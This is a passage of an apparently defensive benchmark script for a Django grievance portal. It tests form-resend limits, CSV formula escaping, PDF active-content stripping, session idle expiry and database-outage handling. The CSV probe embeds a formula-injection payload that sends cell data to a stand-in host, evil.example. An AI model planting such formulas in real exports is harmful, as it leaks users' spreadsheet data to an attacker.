            expected=f"the first {per_key} answered (200/400), then 429 in the spec's shape "
            "with Retry-After; nothing stored past the limit",
            passed=dict(statuses) == {200: 3, 400: per_key - 3}
            and _spec_error(over, "json", 429)
            and _spec_error(over_xml, "xml", 429)
            and bool(over.headers.get("retry-after"))
            and stored_after == 0
            and stored == 3
            and tally.server_errors == 0,
            observed=f"first {per_key}: {counts(statuses)}; then {over.status} and "
            f"{over_xml.status} (Retry-After {over.headers.get('retry-after')}); "
            f"{stored_after} stored past the limit",
            stored=stored,
            lost=len(ids) - stored,
        )
    )
    return rows


def probe_resend(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §6: a form sent again after the limit got 429 instead of its receipt."""
    from grievances.models import Grievance

    tally = Tally()
    number = mobile()
    browser = Browser(srv.port, tally, address="203.0.113.70")
    sent = [browser.file(ctx.complaint(number, f"Resend {n}")) for n in range(10)]
    median = statistics.median(answer.seconds for answer, _ in sent)
    new, _posted = browser.file(ctx.complaint(number, "Resend 11"))
    (last, last_posted), (first, first_posted) = sent[-1], sent[0]
    again_last = browser.post(
        "/bn/complaints/new/", last_posted, [("photo.png", small_png())]
    )  # with a file: the path that checks the per-address limit before reading uploads
    again_first = browser.post("/bn/complaints/new/", first_posted)
    rows_for_mobile = Grievance.objects.filter(mobile=number).count()
    flagged = Grievance.objects.filter(mobile=number, many_from_same_mobile=True).count()
    passed = (
        all(answer.status == 302 for answer, _ in sent)
        and new.status == 429
        and again_last.status == 302
        and again_last.location == last.location
        and again_first.status == 302
        and again_first.location == first.location
        and rows_for_mobile == 10
        and tally.server_errors == 0
    )
    return [
        row(
            "Form sent again past the per-address limit (10/h) and the per-mobile limit (5): "
            "10 complaints, an 11th, then the 10th (with a file) and the 1st sent again",
            tally,
            expected="11th 429; each resend 302 to its own receipt; no duplicate (10 rows)",
            passed=passed,
            observed=f"complaints {counts(collections.Counter(a.status for a, _ in sent))}; "
            f"11th {new.status}; resent 10th {again_last.status} {where(again_last, last)}; "
            f"resent 1st {again_first.status} {where(again_first, first)}; "
            f"{rows_for_mobile} rows for the mobile, {flagged} flagged; complaint POST "
            f"median {median:.2f} s",
        )
    ]


def where(answer: Answer, original: Answer) -> str:
    return "to its receipt" if answer.location == original.location else answer.location or ""


def admin_browser(srv: Server, tally: Tally) -> Browser:
    from django.contrib.auth import get_user_model

    user_model = get_user_model()
    if not user_model.objects.filter(username=SUPERUSER).exists():
        user_model.objects.create_superuser(SUPERUSER, "bench@example.com", ADMIN_PASSWORD)
    browser = Browser(srv.port, tally, address="198.51.100.250", lang="en")
    _page, hidden = browser.form("/admin/login/?next=/admin/")
    answer = browser.post(
        "/admin/login/?next=/admin/",
        {**hidden, "username": SUPERUSER, "password": ADMIN_PASSWORD, "next": "/admin/"},
    )
    if answer.status != 302:
        raise SystemExit(f"The bench superuser could not log in: {answer.status}")
    return browser


def probe_csv(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §6: a service name starting with = went into the CSV as it was."""
    from django.utils import timezone

    from services.models import Service

    tally = Tally()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    service = Service.objects.get(pk=ctx.service.pk)
    saved = service.name_bn, service.name_en
    service.name_bn = service.name_en = formula
    service.save()  # clears the page cache (the charter version) on every server
    try:
        citizen = Browser(srv.port, tally, address="203.0.113.85")
        # A complaint about the service this month, so that the monthly report has its row.
        citizen.file(ctx.complaint(mobile(), "CSV probe"))
        cells = {}
        for lang in ("bn", "en"):
            answer = Browser(srv.port, tally, lang=lang).get(
                f"/{lang}/services/{ctx.service.category}.csv"
            )
            cells[f"public CSV ({lang})"] = _formula_cells(answer, formula)
        admin = admin_browser(srv, tally)
        month = timezone.localdate().strftime("%Y-%m")
        report = admin.get(
            f"/admin/grievances/grievance/report/?month={month}&office={ctx.office.pk}&format=csv"
        )
        cells["monthly report CSV"] = _formula_cells(report, formula)
    finally:
        service.name_bn, service.name_en = saved
        service.save()
    # OWASP: a cell a spreadsheet could run starts with = + - @ tab or carriage return.
    escaped = {
        where: bool(found) and not any(c.startswith(FORMULA_STARTS) for c in found)
        for where, found in cells.items()
    }
    return [
        row(
            "A service named =HYPERLINK(...) in the public CSV (bn, en) and the monthly report CSV",
            tally,
            expected="no cell begins with = + - @ tab or CR: the name is quoted with ' "
            "(or follows a label)",
            passed=all(escaped.values()) and tally.server_errors == 0,
            observed="; ".join(
                f"{where}: {'safe' if ok else 'NOT escaped'}, the cell begins "
                f"{cells[where][0][:14] if cells[where] else '(no such cell)'}…"
                for where, ok in escaped.items()
            ),
        )
    ]


def _formula_cells(answer: Answer, formula: str) -> list[str]:
    if answer.status != 200:
        return []
    text = answer.body.decode("utf-8-sig", "replace")
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line if "HYPERLINK" in cell]


def _active_keys(data: bytes) -> list[str]:
    """Names of active PDF content anywhere in the file's objects, as pypdf reads them."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    from grievances.attachments import PDF_ACTIVE_KEYS

    reader = PdfReader(io.BytesIO(data))
    found, seen = set(), set()
    stack = [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if (item.idnum, item.generation) in seen:
                continue
            seen.add((item.idnum, item.generation))
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            for key, value in item.items():
                if key in PDF_ACTIVE_KEYS or key == "/Launch" or value == "/Launch":
                    found.add(str(key if key in PDF_ACTIVE_KEYS else "/Launch"))
                stack.append(value)
        elif isinstance(item, ArrayObject):
            stack.extend(item)
    return sorted(found)


def probe_pdf(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §6: uploaded PDFs kept their JavaScript and open actions."""
    from grievances.models import Attachment
    from grievances.tests.test_pdf_sanitising import ACTIVE, active_pdf

    tally = Tally()
    original = active_pdf()
    before = _active_keys(original)
    citizen = Browser(srv.port, tally, address="203.0.113.80")
    answer, posted = citizen.file(
        ctx.complaint(mobile(), "PDF probe"), [("evidence.pdf", original)]
    )
    attachment = Attachment.objects.filter(
        grievance__submission_token=posted["submission_token"]
    ).first()
    downloaded = None
    if attachment is not None:
        admin = admin_browser(srv, tally)
        downloaded = admin.get(
            f"/admin/grievances/grievance/{attachment.grievance_id}/attachment/{attachment.pk}/"
        )
    after, markers, pages = [], [], 0
    if downloaded is not None and downloaded.status == 200:
        from pypdf import PdfReader

        after = _active_keys(downloaded.body)
        markers = [m.decode() for m in ACTIVE if m in downloaded.body]
        pages = len(PdfReader(io.BytesIO(downloaded.body)).pages)
    passed = (
        answer.status == 302
        and downloaded is not None
        and downloaded.status == 200
        and downloaded.headers.get("content-type") == "application/pdf"
        and not after
        and not markers
        and pages == 2
        and tally.server_errors == 0
    )
    return [
        row(
            "PDF with JavaScript, open and page actions, an embedded file, a launch link and "
            "a form with XFA; fetched back through the admin download",
            tally,
            expected="complaint 302; the stored PDF has its 2 pages and none of the active keys",
            passed=passed,
            observed=f"complaint {answer.status}; uploaded had {', '.join(before)}; download "
            f"{downloaded.status if downloaded else '—'}, {pages} pages, active keys: "
            f"{', '.join(after) or 'none'}, raw markers: {', '.join(markers) or 'none'}",
        )
    ]


def probe_idle(ctx: Context, srv: Server) -> list[Row]:
    """Issue 16 §6: a session that could open a case lasted 14 days.

    The idle time is not a setting (``grievances.views.CASE_IDLE_SECONDS``); rather than
    wait 30 minutes, the session's last-used times are moved back 31 minutes in the
    database, where production keeps sessions."""
    from django.contrib.sessions.backends.db import SessionStore

    from grievances import views

    tally = Tally()
    number = mobile()
    citizen = Browser(srv.port, tally, address="203.0.113.90")
    answer, _posted = citizen.file(ctx.complaint(number, "Idle probe"))
    tracking_number = receipt_number(answer) or ""
    case_path = f"/bn/complaints/track/{tracking_number}/"
    fresh = citizen.get(case_path)
    session = SessionStore(session_key=citizen.cookies.get("sessionid"))
    aged = time.time() - views.CASE_IDLE_SECONDS - 60
    for key in (views.RECEIPTS_SESSION_KEY, views.TRACKED_SESSION_KEY):
        cases = dict(session.get(key) or {})
        if tracking_number in cases:
            cases[tracking_number] = aged
        session[key] = cases
    session.save()
    idle_case = citizen.get(case_path)
    idle_receipt = citizen.get(answer.location)
    again = citizen.track(tracking_number, number)
    reopened = citizen.get(case_path)
    _page, hidden = citizen.form(case_path)
    signed_out = citizen.post(case_path + "sign-out/", hidden)
    after_sign_out = citizen.get(case_path)
    track_path = "/bn/complaints/track/"
    passed = (
        fresh.status == 200
        and idle_case.status == 302
        and idle_case.location.endswith(track_path)
        and idle_receipt.status == 302
        and again.status == 302
        and reopened.status == 200
        and signed_out.status == 302
        and after_sign_out.status == 404
        and tally.server_errors == 0
    )
    return [
        row(
            "Case page after 30 idle minutes (session aged 31 min in the database: the idle "
            "time is a constant, CASE_IDLE_SECONDS), then 'sign out of this case'",
            tally,
            expected="idle: case and receipt 302 to the tracking form; the numbers again: "
            "200; after sign-out: 404",
            passed=passed,
            observed=f"case page {fresh.status}; after 31 idle min case {idle_case.status} → "
            f"{idle_case.location or '—'}, receipt {idle_receipt.status}; tracked again "
            f"{again.status}, case {reopened.status}; sign out {signed_out.status}, then case "
            f"{after_sign_out.status} (also grievances/tests/test_sessions.py)",
        )
    ]


# --- The database going away: a TCP relay in front of PostgreSQL for server D ---


class Relay:
    """Forwards 127.0.0.1:RELAY_PORT to PostgreSQL. ``down()`` resets every connection and
    stops listening (a stopped or unreachable database: connections refused); ``up()``
    listens again."""

    def __init__(self, port=RELAY_PORT, target=("127.0.0.1", 5432)):
        self.port, self.target = port, target
        self.pairs: set = set()
        self.lock = threading.Lock()
        self.listener = None

    def up(self):
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", self.port))
        listener.listen(64)
        self.listener = listener
        threading.Thread(target=self._accept, args=(listener,), daemon=True).start()

    def down(self):
        with self.lock:
            listener, self.listener = self.listener, None
        if listener is not None:
            with contextlib.suppress(OSError):
                listener.shutdown(socket.SHUT_RDWR)
            listener.close()
        with self.lock:
            pairs = list(self.pairs)
        for pair in pairs:
            self._close(pair, reset=True)

    def _accept(self, listener):
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            try:
                upstream = socket.create_connection(self.target, timeout=5)
                upstream.settimeout(None)
            except OSError:
                client.close()
                continue
            pair = (client, upstream)
            with self.lock:
                alive = self.listener is listener
                if alive:
                    self.pairs.add(pair)
            if not alive:  # accepted just before down(): it must not outlive the outage
                for sock in pair:
                    sock.close()
                continue
            for source, sink in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pump, args=(source, sink, pair), daemon=True).start()

    def _pump(self, source, sink, pair):
        try:
            while data := source.recv(65536):
                sink.sendall(data)
        except OSError:
            pass
        self._close(pair)

    def _close(self, pair, reset=False):
        with self.lock:
            if pair not in self.pairs:
                return
            self.pairs.discard(pair)
        for sock in pair:
            with contextlib.suppress(OSError):
                if reset:  # closed with an RST, as a crashed server or a cut network gives
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                # shutdown wakes the pump thread blocked in recv() on this socket: close()
                # alone would leave the connection open until data came.
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()


_relay = Relay()


@contextlib.contextmanager
def relay():
    _relay.up()
    try:
        yield _relay
    finally:
        _relay.down()


def terminate_connections() -> int:
    """pg_terminate_backend on server D's connections (they carry its application_name)."""
    import psycopg2

    with contextlib.closing(
        psycopg2.connect(host="127.0.0.1", port=5432, user="postgres", dbname=run.DATABASE)
    ) as connection:
        connection.autocommit = True
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity "
                "WHERE application_name = %s AND pid <> pg_backend_pid()",
                [APPLICATION_NAME],
            )
            return cursor.fetchone()[0]


DB_DOWN_CLIENTS = 4
DB_DOWN_SECONDS = 18.0
# (second, what): connections killed while requests run, then the database unreachable.
DB_DOWN_SCHEDULE = [(2.0 + 0.1 * n, "terminate") for n in range(45)] + [
    (7.0, "down"),
    (11.0, "up"),
]


def probe_db_down(ctx: Context) -> list[Row]:
    """Issue 16 §6: a connection dropped while rendering gave the 500 page, not the 503."""
    from django.db import connections

    from grievances.models import Attachment, Grievance, OutboxMessage, TimelineEntry

    flush_redis(REDIS_CD)
    tally = Tally()
    healthz = []
    chaos = collections.Counter()
    with relay() as link, server("D") as srv:
        # A complaint to track all along.
        setup = Browser(srv.port, Tally())
        number = mobile()
        first, _ = setup.file(ctx.complaint(number, "DB down: tracked"))
        tracking_number = receipt_number(first) or ""
        connections.close_all()
        start = time.monotonic()
        stop_at = start + DB_DOWN_SECONDS

        def client(n):
            browser = Browser(srv.port, tally)
            png = small_png()
            i = 0
            while time.monotonic() < stop_at:
                i += 1
                browser.get("/bn/")
                browser.get("/bn/services/")
                browser.file(ctx.complaint(mobile(), f"DB down {n}-{i}"), [("p.png", png)])
                browser.track(tracking_number, number)

        def poll_health():
            probe = Browser(srv.port, Tally())
            while time.monotonic() < stop_at:
                answer = probe.get("/healthz", timeout=10)
                healthz.append((answer.started - start, answer.status))
                time.sleep(0.5)

        def break_things():
            for at, what in DB_DOWN_SCHEDULE:
                time.sleep(max(0.0, start + at - time.monotonic()))
                if what == "terminate":
                    chaos["terminated"] += terminate_connections()
                elif what == "down":
                    link.down()
                    chaos["down at"] = time.monotonic() - start
                else:
                    link.up()
                    chaos["up at"] = time.monotonic() - start

        threads = [threading.Thread(target=client, args=(n,)) for n in range(DB_DOWN_CLIENTS)]
        threads += [threading.Thread(target=poll_health), threading.Thread(target=break_things)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        time.sleep(0.5)
        LOGGED_500["D (database lost)"] = logged_server_errors(srv.log)
        causes = logged_failures(srv.log)

    answers = list(tally.answers)
    statuses = tally.statuses()
    # What a citizen may see: a page, a receipt, the 503 page. Not a 500, nor a 400 or 403.
    unexpected = sum(n for status, n in statuses.items() if status not in (200, 302, 503))
    bare_503 = sum(1 for a in answers if a.status == 503 and not a.headers.get("retry-after"))
    stored_tokens = set(
        Grievance.objects.filter(submission_token__in=list(tally.tokens)).values_list(
            "submission_token", flat=True
        )
    )
    lost = [t for t in tally.receipts if t not in stored_tokens]
    told_not_saved = collections.Counter(
        s for t, s in tally.tokens.items() if s != 302 and t in stored_tokens
    )
    half = []
    for grievance in Grievance.objects.filter(submission_token__in=stored_tokens):
        attachments = list(Attachment.objects.filter(grievance=grievance))
        complete = (
            len(attachments) == 1
            and all(a.file.storage.exists(a.file.name) for a in attachments)
            and TimelineEntry.objects.filter(grievance=grievance, kind="submitted").count() == 1
            and OutboxMessage.objects.filter(grievance=grievance).exists()
        )
        if not complete:
            half.append(grievance.tracking_number)
    root = Path(BASE_ENV["PRIVATE_MEDIA_ROOT"])
    on_disk = {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}
    orphans = on_disk - set(Attachment.objects.values_list("file", flat=True))
    down_at, up_at = chaos.get("down at", 0), chaos.get("up at", 0)
    after = collections.Counter(a.status for a in answers if a.started - start > up_at + 2)
    recovered = bool(after) and set(after) <= {200, 302}
    health_down = collections.Counter(s for t, s in healthz if down_at < t < up_at)
    health_after = collections.Counter(s for t, s in healthz if t > up_at + 2)
    passed = (
        unexpected == 0
        and bare_503 == 0
        and statuses.get(503, 0) > 0
        and not lost
        and not half
        and recovered
        and health_down.get(503, 0) > 0
        and set(health_after) == {200}
    )
    where_unexpected = collections.defaultdict(collections.Counter)
    for a in answers:
        if a.status not in (200, 302, 503):
            where_unexpected[a.status or "no answer"][f"{a.method} {a.path.split('?')[0]}"] += 1
    return [
        row(
            f"Database lost mid-run (a second gunicorn, reaching PostgreSQL through a TCP "
            f"relay): {DB_DOWN_CLIENTS} clients browse, file with a PNG and track for "
            f"{DB_DOWN_SECONDS:.0f} s; pg_terminate_backend every 0.1 s at 2–6.5 s, connections "
            "reset and refused at 7–11 s",
            tally,
            expected="200, 302 or the 503 page with Retry-After (503 expected here), never "
            "500 nor another error page; every 302 stored; no complaint half-stored; "
            "200/302 again after; /healthz 503 then 200",
            passed=passed,
            observed=f"{counts(statuses)}"
            + "".join(
                f"; the {status}s: " + ", ".join(f"{n} × {k}" for k, n in kinds.items())
                for status, kinds in where_unexpected.items()
            )
            + f"; {chaos['terminated']} connections terminated; {len(tally.tokens)} "
            f"complaints sent, {len(lost)} lost, {len(half)} half-stored, stored without a "
            f"receipt: {counts(told_not_saved) or 'none'}; {len(orphans)} attachment "
            f"files without a row; from 2 s after the database came back: {counts(after)}; "
            f"/healthz while away {counts(health_down)}, after {counts(health_after)}"
            + "".join(f"; server log: {n} × {cause}" for cause, n in causes.items()),
            stored=len(stored_tokens),
            lost=len(lost),
        )
    ]


# --- Running them ---

ON_A = ["admin-login", "lockout", "open311", "resend", "csv", "pdf", "idle"]
PROBES = {
    "redis-down": probe_redis_down,
    "uploads": probe_uploads,
    "admin-login": probe_admin_login,
    "lockout": probe_lockout,
    "spoofed-ip": probe_spoofed_ip,
    "open311": probe_open311,
    "resend": probe_resend,
    "csv": probe_csv,
    "pdf": probe_pdf,
    "idle": probe_idle,
    "db-down": probe_db_down,
}
ORDER = [
    "redis-down",
    "uploads",
    "admin-login",
    "lockout",
    "spoofed-ip",
    "open311",
    "resend",
    "csv",
    "pdf",
    "idle",
    "db-down",
]


def render(started, rows: list[Row], seconds: float, chosen: list[str]) -> str:
    lines = [
        "## Faults and abuse",
        "",
        f"`python bench/faults.py` (`make bench-faults`; not part of `make test`), run "
        f"{started:%Y-%m-%d %H:%M %Z} on {platform.node()}: {os.cpu_count()} CPUs shared with "
        f"other engineers' work, Python {platform.python_version()}; gunicorn 2 sync workers, "
        "production settings, PostgreSQL, Redis; every probe against its own gunicorn "
        f"(ports 8861–8865, database `{run.DATABASE}`, Redis databases 12–13); "
        f"{seconds:.0f} s in all"
        + ("" if chosen == ORDER else f"; probes: {', '.join(chosen)}")
        + ".",
        "",
        "accepted = answers 2xx/3xx; stored = the probe's complaints in the database; lost = "
        "complaints acknowledged (302 to a receipt, or an Open311 id) but not in the "
        "database; 5xx = every answer ≥ 500 (only the database probe expects any: 503).",
        "",
        "| fault or attack | requests | accepted | stored | lost | 5xx | expected outcome | "
        "result |",
        "|---|---|---|---|---|---|---|---|",
    ]
    for r in rows:
        lines.append(
            f"| {r.name} | {r.requests} | {r.accepted} | {r.stored} | {r.lost} | "
            f"{r.server_errors} | {r.expected} | {r.result} |"
        )
    failed = [r.name for r in rows if r.passed is False]
    lines += [
        "",
        f"{len(rows) - len(failed)} of {len(rows)} rows pass. Requests Django logged as "
        "500 (unhandled exception), from the servers' logs: "
        + ", ".join(f"{server} {n}" for server, n in LOGGED_500.items())
        + ".",
    ]
    return "\n".join(lines) + "\n"


def write_results(section: str) -> None:
    path = HERE / "RESULTS.md"
    text = path.read_text() if path.exists() else ""
    start = text.find("## Faults and abuse")
    if start >= 0:
        end = text.find("\n## ", start + 1)
        text = text[:start] + section + (text[end + 1 :] if end >= 0 else "")
    else:
        text = text.rstrip("\n") + "\n\n" + section
    path.write_text(text)


def main(argv: list[str]) -> int:
    write = "--write" in argv
    chosen = [name for name in argv if not name.startswith("--")] or ORDER
    unknown = [name for name in chosen if name not in PROBES]
    if unknown:
        raise SystemExit(f"Unknown probe(s) {', '.join(unknown)}; choose from {', '.join(ORDER)}")
    chosen = [name for name in ORDER if name in chosen]
    started = datetime.datetime.now().astimezone()
    clock = time.monotonic()
    Path(BASE_ENV["PRIVATE_MEDIA_ROOT"]).mkdir(parents=True, exist_ok=True)
    Path(BASE_ENV["SMS_FILE_PATH"]).mkdir(parents=True, exist_ok=True)
    results: dict[str, list[Row]] = {}
    try:
        print("Preparing the database…", file=sys.stderr)
        uploads.prepare_database()  # drop, create, migrate, the charter, static; flush db 12
        flush_redis(REDIS_CD)
        import django

        django.setup()
        ctx = Context()
        on_a = [name for name in chosen if name in ON_A]
        if on_a:  # one server for these, one after the other
            with server("A") as srv:
                for name in on_a:
                    print(f"Probe {name}…", file=sys.stderr)
                    results[name] = PROBES[name](ctx, srv)
                time.sleep(0.5)
                LOGGED_500["A (the deployment)"] = logged_server_errors(srv.log)
        for name in chosen:
            if name not in ON_A:
                print(f"Probe {name}…", file=sys.stderr)
                results[name] = PROBES[name](ctx)
    finally:
        for log in TMP.glob("server-*.log"):
            shutil.copy(log, Path(tempfile.gettempdir()) / f"bench-faults-{log.name}")
        shutil.rmtree(TMP, ignore_errors=True)
    rows = [r for name in chosen for r in results.get(name, [])]
    section = render(started, rows, time.monotonic() - clock, chosen)
    print(section)
    print(f"Server logs: {tempfile.gettempdir()}/bench-faults-server-*.log", file=sys.stderr)
    if write:
        write_results(section)
    return 1 if any(r.passed is False for r in rows) else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
